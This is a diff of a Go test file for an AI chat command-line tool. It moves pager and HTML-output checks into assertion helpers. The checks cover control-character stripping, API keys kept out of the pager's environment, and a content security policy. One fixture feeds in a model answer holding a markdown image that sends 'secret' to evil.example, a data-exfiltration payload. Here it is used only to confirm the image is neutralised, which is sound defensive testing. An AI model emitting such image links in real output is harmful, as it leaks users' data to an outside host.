@@ -21,9 +21,7 @@ var showing = []fault{
 			t.Errorf("exit %d: %q", r.code, r.stdout)
 		}
 		got := text(t, paged)
-		if !strings.Contains(got, visible) || !strings.Contains(got, "line 60\n") {
-			t.Errorf("the pager got %q", got)
-		}
+		holdsAll(t, got, visible, "line 60\n")
 		equal(t, "controls for the pager", regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{202e}]`).FindString(got), "")
 		if env := text(t, paged+".env"); !strings.Contains(env, "LESS=FRX\n") || strings.Contains(env, "API_KEY") {
 			t.Errorf("its environment is %s", env)
@@ -34,23 +32,16 @@ var showing = []fault{
 		h.env["LESS"] = "-S"
 		h.at(h.command("cat")).end()
 		got := text(t, paged)
-		if !strings.Contains(got, "\x1b[") || !strings.Contains(got, "^[[31mred") {
-			t.Errorf("the pager got %q", got)
-		}
-		if rest := regexp.MustCompile(`\x1b\[[0-9;]*m`).ReplaceAllString(got, ""); strings.Contains(rest, "\x1b") {
-			t.Errorf("more than styles: %q", rest)
-		}
-		if env := text(t, paged+".env"); !strings.Contains(env, "LESS=-S\n") {
-			t.Errorf("its environment is %s", env)
-		}
+		holdsAll(t, got, "\x1b[", "^[[31mred")
+		holdsNone(t, regexp.MustCompile(`\x1b\[[0-9;]*m`).ReplaceAllString(got, ""), "\x1b")
+		holdsAll(t, text(t, paged+".env"), "LESS=-S\n")
 	}},
 	{row: "G15", what: "an image in a page", test: func(t *testing.T) {
 		h, _ := scripted(t, demo.Stream(demo.Answer("![x](https://evil.example/?q=secret)")...))
 		h.run("hi")
 		page := h.run("cat", "--format", "html").stdout
-		if strings.Contains(page, "<img") || !strings.Contains(page, `<a href="https://evil.example/?q=secret"`) {
-			t.Errorf("%s", page)
-		}
+		holdsAll(t, page, `<a href="https://evil.example/?q=secret"`)
+		holdsNone(t, page, "<img")
 		holdsAll(t, page, `content="default-src 'none'; style-src 'unsafe-inline'`)
 	}},
 	{row: "G16", what: "code with hidden characters", test: func(t *testing.T) {
@@ -70,9 +61,7 @@ var showing = []fault{
 		h.config("[profiles.own]\nbase_url = \"http://localhost:1/v1\"\nkey_env = \"MY_OWN\"\n")
 		h.env["MY_OWN"] = canary
 		h.at(h.command("cat")).end()
-		if env := text(t, paged+".env"); strings.Contains(env, canary) {
-			t.Error("the pager gets the key")
-		}
+		holdsNone(t, text(t, paged+".env"), canary)
 	}},
 }
 
@@ -144,9 +133,7 @@ func TestPagerGoneEarly(t *testing.T) {
 	t.Parallel()
 	h, _ := pages(t, strings.Repeat(numbered(100), 1000))
 	h.env["PAGER"] = "true"
-	if r := h.atTerminal("cat"); r.code != 0 || r.stdout != "" {
-		t.Errorf("exit %d, %q", r.code, r.stdout)
-	}
+	h.checkRun(h.atTerminal("cat"), want{stdout: ""})
 }
 
 func TestPagerEndsWithOax(t *testing.T) {
